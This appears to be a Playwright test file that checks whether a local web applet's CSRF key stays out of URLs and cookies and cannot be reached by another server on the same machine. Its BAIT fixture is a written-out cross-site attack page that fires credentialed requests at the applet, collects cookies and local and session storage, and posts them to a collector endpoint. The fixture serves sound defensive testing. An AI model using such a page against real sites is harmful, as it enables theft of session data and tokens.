"""The applet's key in a real browser: where it stays, and that no other server of this machine comes to have it."""

from __future__ import annotations

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from tests.web.browser.sitting import sitting

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser
HELD = "[location.href, document.cookie, document.referrer, JSON.stringify({...localStorage, ...sessionStorage})].join()"
TOKEN = "document.querySelector('meta[name=csrf]').content"
BAIT = """<!doctype html><title>bait</title><iframe name="frame"></iframe>
<form method="post" action="{applet}/step" target="frame"><input name="word" value="0"></form><script>
const read = [];
const ask = async (options) => {{
  for (const path of ["/", "/state", "/record", "/openapi.json"]) {{
    try {{ read.push(await (await fetch("{applet}" + path, options)).text()); }} catch {{ }}
  }}
}};
addEventListener("load", async () => {{
  document.forms[0].submit();
  await ask({{ credentials: "include" }});
  await ask({{ credentials: "include", mode: "no-cors" }});
  await ask({{ method: "POST", credentials: "include", mode: "no-cors", body: "{{}}" }});
  await ask({{ method: "POST", headers: {{ "Content-Type": "application/json", "X-CSRF-Token": "x" }}, body: "{{}}" }});
  read.push(document.cookie, document.referrer, JSON.stringify({{ ...localStorage, ...sessionStorage }}));
  await fetch("/found", {{ method: "POST", credentials: "include", body: read.join("\\n") }});
  document.title = "done";
}});
</script>"""


class Neighbour:
    """A server on another port of 127.0.0.1, and all that it was told: addresses, headers, bodies."""

    def __init__(self) -> None:
        self.requests_received: list[str] = []
        self.page = ""
        neighbour = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                length = int(self.headers.get("content-length", 0))
                neighbour.requests_received.append(
                    f"{self.requestline}\n{self.headers}{self.rfile.read(length).decode()}"
                )
                body = neighbour.page.encode()
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815, the server's name

            def log_message(self, *_: object) -> None:
                """Nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}/"


@contextmanager
def neighbouring() -> Iterator[Neighbour]:
    neighbour = Neighbour()
    thread = threading.Thread(target=neighbour.server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield neighbour
    finally:
        neighbour.server.shutdown()
        neighbour.server.server_close()
        thread.join()


def key_of(page: Page) -> str:
    key = str(page.evaluate(TOKEN))
    assert len(key) == 43
    return key


def test_the_key_leaves_the_address_and_outlives_a_reload(browser: Browser) -> None:
    with sitting(browser, "human") as table:
        page = table.page
        key = key_of(page)
        assert page.url.endswith("/")
        page.reload()
        page.locator(".rp-table").wait_for()
        assert key_of(page) == key
        assert key not in page.url
        assert page.context.cookies() == []
        table.press("Step")
        table.settled()


def test_a_second_tab_comes_in_by_the_link_alone(browser: Browser) -> None:
    with sitting(browser, "human") as table:
        own, key = table.page.url, key_of(table.page)
        second = table.page.context.new_page()
        second.goto(own)
        second.get_by_role("heading", name="No entry").wait_for()
        second.goto(f"{own}?key={key}")
        second.locator(".rp-table").wait_for()
        assert second.url == own
        second.go_back()
        assert key not in second.url


def test_another_server_of_this_machine_gets_neither_the_key_nor_the_table(browser: Browser) -> None:
    with sitting(browser, "human") as table, neighbouring() as neighbour:
        key, revision = key_of(table.page), table.session.revision
        neighbour.page = BAIT.format(applet=table.page.url.rstrip("/"))
        # In another tab, and in the applet's own.
        for page in (table.page.context.new_page(), table.page):
            page.goto(neighbour.address)
            page.wait_for_function("document.title === 'done'")
            assert key not in page.evaluate(HELD)
        told = "\n".join(neighbour.requests_received)
        assert told.count("POST /found") == 2
        assert key not in told
        assert "cookie" not in told.lower()
        assert "planning" not in told
        assert table.session.revision == revision
